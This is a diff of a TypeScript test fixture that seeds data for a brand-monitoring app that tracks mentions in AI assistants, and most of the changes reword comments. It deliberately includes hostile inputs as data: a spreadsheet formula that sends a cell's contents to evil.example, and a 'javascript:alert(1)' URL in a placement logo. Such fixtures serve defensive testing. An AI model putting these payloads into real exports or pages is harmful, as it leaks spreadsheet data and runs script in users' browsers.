@@ -2,34 +2,34 @@ import { hardId, hardNames, hostileAnswers, ofLength } from './hard-texts.ts'
 
 const brandId = 'hard'
 
-/** What a test may ask for of the brand `hard`. Days are counted back from that of `now`. */
+/** Properties of the brand `hard` for tests. Days are counted back from `now`. */
 export const hard = {
   brandId,
-  /** How many days there are, the present one included. */
+  /** Number of days, including today. */
   days: 56,
-  /** Nothing was asked. */
+  /** Days without runs. */
   missing: [12, 10],
-  /** Measured, between the two. */
+  /** A measured day between them. */
   lone: 11,
-  /** Every ask of the assistant failed. */
+  /** Days on which every run of the assistant failed. */
   down: { provider: 'perplexity', days: [25, 24, 23, 22, 21] },
-  /** From this day on the assistant answers with another model. */
+  /** The assistant changes its model on this day. */
   newModel: { provider: 'chatgpt', day: 8, before: 'gpt-5', model: 'gpt-5.1' },
-  /** Answers, of which none names anybody. */
+  /** Day with answers that mention no entity. */
   unmentioned: 6,
-  /** Answers that name rivals, none of which names the brand. */
+  /** Day with answers that mention competitors but not the brand. */
   unnamed: 15,
-  /** No mention of its answers has a sentiment. */
+  /** Assistant with answers in which no mention has a sentiment. */
   unscored: 'google-ai-overview',
-  /** Its answers name neither the brand nor a rival. */
+  /** Topic with answers that mention neither the brand nor a competitor. */
   emptyTopic: 't-none',
-  /** Ids with what addresses encode. */
+  /** ID with characters that URLs must encode. */
   topicId: hardId('t'),
   tagId: hardId('tag'),
   competitorId: hardId('r'),
   sourceId: hardId('s'),
   promptId: hardId('p'),
-  /** Of exactly one answer, and of none. */
+  /** Prompts with exactly one answer and with none. */
   once: 'p-once',
   never: 'p-never',
 } as const
@@ -46,7 +46,7 @@ const rivals = [
   ['r-markup', hardNames.markup],
 ] as const
 
-/** What every assistant is asked every day: id, text, topic. */
+/** Prompts asked every day on every assistant: ID, text, topic. */
 const daily = [
   [hard.promptId, 'What is 100 %41 of 日本 / and of the rest?', hard.topicId],
   ['p-formula', '=HYPERLINK("https://evil.example/?"&A1;"Which shoes?")', 't-markup'],
@@ -90,7 +90,7 @@ const market = (createdAt: string): object[] => [
   ),
 ]
 
-/** Whom an answer names, in order; in the last 28 days the brand three times as often as before. */
+/** Entities that an answer mentions, in order. In the last 28 days, the brand is three times as likely. */
 function namedIn(ago: number, luck: number): string[] {
   const others = rivals.flatMap(([id], place) => ((luck + place * 2) % 5 === 0 ? [id] : []))
   if (luck % 11 === 0) others.push('r-indirect')
@@ -119,7 +119,7 @@ const placementOf = (id: string) => ({
   ...{ advertiserLogo: 'javascript:alert(1)', imageUrl: 'https://evil.example/p.png' },
 })
 
-/** What was asked on a day, how it ended, and the counts of it. */
+/** Runs of a day, their results, and their counts. */
 function* dayOf(ago: number, start: number, length: number): Generator<object> {
   const date = new Date(start).toISOString().slice(0, 10)
   for (const [place, provider] of providers.entries()) {
@@ -152,7 +152,7 @@ function* dayOf(ago: number, start: number, length: number): Generator<object> {
   }
 }
 
-/** Answers that were brought along and not asked for: the hostile ones, and the only one of its prompt. */
+/** Imported answers without runs: the hostile ones, and the only answer of its prompt. */
 function broughtAlong(daysAgo: (ago: number) => string): object[] {
   const brought = (id: string, promptId: string, ago: number, text: string) =>
     ofBrand('answer', id, {
@@ -165,7 +165,7 @@ function broughtAlong(daysAgo: (ago: number) => string): object[] {
   ]
 }
 
-/** What is published and noted, with the same malice. */
+/** Articles and notes with hostile content. */
 const written = (createdAt: string): object[] => [
   ofBrand('article', hardId('article'), {
     ...{
@@ -181,7 +181,7 @@ const written = (createdAt: string): object[] => [
   ofBrand('note', hardId('note'), { text: hardNames.markup, at: createdAt, createdAt }),
 ]
 
-/** The records of the brand `hard`: its market, what was asked and answered up to `now`, and none of it later. */
+/** Records of the brand `hard`: its entities, and its runs and answers until `now`. */
 export function* hardBrand(teamId: string, now: Date): Generator<object> {
   const dayLength = 86_400_000
   const today = Math.floor(now.getTime() / dayLength) * dayLength
